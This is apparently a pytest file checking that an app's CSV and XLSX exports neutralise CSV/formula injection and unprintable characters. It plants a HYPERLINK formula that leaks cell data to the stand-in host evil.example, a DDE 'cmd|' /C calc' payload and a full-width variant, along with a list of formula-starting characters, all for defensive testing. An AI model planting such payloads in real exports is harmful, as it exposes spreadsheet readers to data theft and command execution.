"""Every export, opened by a real reader: what users typed never runs as a formula, and a
character a workbook cannot hold, stored before inputs refused it, never breaks the file."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.models.account import Role
from app.models.budget import BudgetLine
from app.models.cooperative import Cooperative
from app.models.mentoring import Consultation, Training
from tests.factories import create_budget_line, create_cooperative, if_match

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
# What spreadsheet programs run as a formula, as OWASP lists it, and full-width.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
# C0 controls but tab, line feed and carriage return; DEL and C1 controls.
UNPRINTABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
EXPORTS = {
    "cooperatives": ("/api/v1/exports/cooperatives", {}),
    "consultations": ("/api/v1/exports/consultations", {}),
    "trainings": ("/api/v1/exports/trainings", {}),
    "budget-summary": ("/api/v1/exports/budget-summary", {"fiscal_year": 2025}),
}


def plant(client, login_as, in_app_session) -> dict[str, list[str]]:
    """Formulas typed through the API, a cooperative's own officer planting one in its record,
    and control characters written straight to the database (the API refuses them now). The
    texts each export must show, as a spreadsheet shows them."""
    coop = create_cooperative(client, name="@SUM(1+1)*cmd|' /C calc'!A0", notary_name="-2+3")
    own = login_as(Role.cooperative, "64.02", coop["id"])
    url = f"/api/v1/cooperatives/{coop['id']}"
    planted = client.patch(
        url,
        json={"business_units": ["lainnya"], "business_units_other": HYPERLINK},
        headers=if_match(client, url, own),
    )
    assert planted.status_code == 200, planted.text
    consultation = client.post(
        "/api/v1/consultations",
        json={
            "cooperative_id": coop["id"],
            "channel": "walk_in",
            "occurred_at": "2025-08-04T09:30:00+08:00",
            "contact_name": "+62 812 bukan telepon",
            "summary": HYPERLINK,
            "advice": '\uff1dHYPERLINK("http://evil.example")',
        },
    )
    assert consultation.status_code == 201, consultation.text
    training = client.post(
        "/api/v1/trainings",
        json={
            "title": "=1+1 Pelatihan",
            "region_code": "64.02",
            "capacity": 30,
            "estimated_cost": 8_000_000,
            "venue": "@Balai Desa",
            "modules": ["-modul satu", "modul dua"],
        },
    )
    assert training.status_code == 201, training.text
    create_budget_line(client, name=HYPERLINK)
    line = create_budget_line(client, kode_rekening="5.1.02.02.12.0002", name="Belanja Honor")

    async def store_control_characters(session):
        await session.execute(
            update(Cooperative)
            .where(Cooperative.id == coop["id"])
            .values(akta_number="\t=1+1", sk_ahu_number="AHU\x1b[31m", nib="\x07\x7f\x85")
        )
        await session.execute(
            update(Consultation)
            .where(Consultation.id == consultation.json()["id"])
            .values(contact_name="Pak\x1bYusuf")
        )
        await session.execute(
            update(Training).where(Training.id == training.json()["id"]).values(venue="@Balai\x0b")
        )
        await session.execute(
            update(BudgetLine).where(BudgetLine.id == line["id"]).values(name="Belanja\x1bHonor")
        )
        await session.commit()

    in_app_session(store_control_characters)
    return {
        "cooperatives": [
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            HYPERLINK,
            "\t=1+1",
            "AHU\ufffd[31m",
            "\ufffd\ufffd\ufffd",
        ],
        "consultations": [
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "Pak\ufffdYusuf",
            HYPERLINK,
            '\uff1dHYPERLINK("http://evil.example")',
        ],
        "trainings": ["=1+1 Pelatihan", "@Balai\ufffd", "-modul satu; modul dua"],
        "budget-summary": [HYPERLINK, "Belanja\ufffdHonor"],
    }


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text)


@pytest.mark.parametrize("export", EXPORTS)
def test_csv_exports_neutralise_formulas_and_unprintable_characters(
    client, login_as, in_app_session, export
):
    expected = plant(client, login_as, in_app_session)[export]
    url, params = EXPORTS[export]
    response = client.get(url, params={"format": "csv", **params})
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    assert not UNPRINTABLE.search(text)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if formula_like(cell)] == []
    for planted in expected:
        # An apostrophe before it: a spreadsheet shows it as text.
        assert ("'" + planted if formula_like(planted) else planted) in cells, planted


@pytest.mark.parametrize("export", EXPORTS)
def test_xlsx_exports_hold_text_as_text(client, login_as, in_app_session, export):
    expected = plant(client, login_as, in_app_session)[export]
    url, params = EXPORTS[export]
    response = client.get(url, params={"format": "xlsx", **params})
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for planted in expected:
        cell = texts[planted]  # the text itself, typed as text
        assert cell.data_type == "s"
        # Excel's own quote prefix: shown as typed, and kept as text when the cell is edited.
        assert cell.quotePrefix == formula_like(planted), planted
